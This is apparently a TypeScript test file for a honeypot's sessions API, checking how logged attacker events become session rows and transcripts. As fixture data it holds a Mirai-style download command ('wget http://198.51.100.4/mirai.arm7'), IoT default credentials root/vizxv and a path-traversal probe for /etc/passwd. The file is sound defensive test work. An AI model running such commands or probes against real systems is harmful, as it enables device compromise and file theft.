/**
 * Honeypot sessions through the store and the API: events from the runtime's sink become one session row each
 * (counts, credentials, how it ended), and a session's events and asciicast transcript are served by id.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import type { FastifyInstance } from 'fastify';
import { buildApp } from '../../src/api/app.js';
import { createContext, type AppContext } from '../../src/app/context.js';
import { loadConfig } from '../../src/core/config/load-config.js';
import { silentLogger } from '../../src/core/logger.js';
import { AsciicastRecorder } from '../../src/honeynet/runtime/asciicast.js';
import { HoneypotEventSink } from '../../src/honeynet/runtime/event-sink.js';
import { recordingPath } from '../../src/honeynet/runtime/recording-path.js';

describe('honeypot sessions API', () => {
  let dir: string;
  let ctx: AppContext;
  let app: FastifyInstance;
  let auth: Record<string, string>;
  const S1 = '01a20000-0000-7000-8000-000000000001';
  const S2 = '01a20000-0000-7000-8000-000000000002';

  before(async () => {
    dir = mkdtempSync(join(tmpdir(), 'lnmt-hp-api-'));
    const { config } = loadConfig({ env: { LNMT_DATA_DIR: dir, LNMT_LOG__LEVEL: 'silent' }, cwd: dir });
    ctx = await createContext(config, { logger: silentLogger(), persistEvents: true });
    app = await buildApp(ctx);
    auth = { authorization: `Bearer ${(await ctx.repos.tokens.create('v', 'viewer')).secret}` };
    const sink = new HoneypotEventSink({ bus: ctx.bus, sensor: 'sensor-1', logPath: null });
    const ref = (port: number) => ({ service: 'telnet', src_ip: '203.0.113.7', src_port: port, dst_ip: '10.0.0.5', dst_port: 2323, protocol: 'tcp' as const });
    sink.emit('honeypot.connect', ref(40001), S1, {});
    sink.emit('honeypot.auth', ref(40001), S1, { method: 'password', username: 'admin', password: 'admin', success: false });
    sink.emit('honeypot.auth', ref(40001), S1, { method: 'password', username: 'root', password: 'vizxv', success: true });
    sink.emit('honeypot.command', ref(40001), S1, { input: 'cd /tmp; wget http://198.51.100.4/mirai.arm7', known: true });
    sink.emit('honeypot.close', ref(40001), S1, { duration_ms: 4200, bytes_in: 120, bytes_out: 900, reason: 'client logged out' });
    sink.emit('honeypot.connect', { ...ref(40002), service: 'ssh', dst_port: 2222 }, S2, {});
    await sink.close();
    await ctx.bus.drain();
    const rec = new AsciicastRecorder(recordingPath(config, S1, dir)!, { width: 80, height: 24, title: 't' }, 1 << 20);
    rec.output('root@fs01:~$ ');
    await rec.close();
  });
  after(async () => {
    await app.close();
    await ctx.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('lists sessions newest first with what happened in each, filtered by service or login', async () => {
    const r = await app.inject({ url: '/api/honeypot/sessions', headers: auth });
    assert.equal(r.statusCode, 200, r.body);
    const body = r.json() as { total: number; items: Array<Record<string, unknown>> };
    assert.equal(body.total, 2);
    const s1 = body.items.find((i) => i.id === S1)!;
    assert.deepEqual(
      [s1.service, s1.src_ip, s1.username, s1.password, s1.logged_in, s1.auth_attempts, s1.commands, s1.duration_ms, s1.bytes_in, s1.close_reason],
      ['telnet', '203.0.113.7', 'root', 'vizxv', true, 2, 1, 4200, 120, 'client logged out'],
    );
    const open = body.items.find((i) => i.id === S2)!;
    assert.equal(open.ended_at, null);
    const ssh = (await app.inject({ url: '/api/honeypot/sessions?service=ssh', headers: auth })).json() as { total: number };
    assert.equal(ssh.total, 1);
    const li = (await app.inject({ url: '/api/honeypot/sessions?logged_in=true', headers: auth })).json() as { items: Array<{ id: string }> };
    assert.deepEqual(li.items.map((i) => i.id), [S1]);
  });

  it('shows a session with its events in order and its transcript; 404 and 400 otherwise', async () => {
    const r = await app.inject({ url: `/api/honeypot/sessions/${S1}`, headers: auth });
    assert.equal(r.statusCode, 200, r.body);
    const d = r.json() as { events: Array<{ type: string }>; transcript: string };
    assert.deepEqual(d.events.map((e) => e.type), ['honeypot.connect', 'honeypot.auth', 'honeypot.auth', 'honeypot.command', 'honeypot.close']);
    assert.match(d.transcript, /^\{"version":2/);
    const t = await app.inject({ url: `/api/honeypot/sessions/${S1}/transcript`, headers: auth });
    assert.equal(t.headers['content-type'], 'application/x-asciicast');
    assert.equal((await app.inject({ url: `/api/honeypot/sessions/${S2.replace(/2$/, '9')}`, headers: auth })).statusCode, 404);
    const bad = await app.inject({ url: '/api/honeypot/sessions/..%2F..%2Fetc%2Fpasswd', headers: auth });
    assert.equal(bad.statusCode, 400);
  });
});
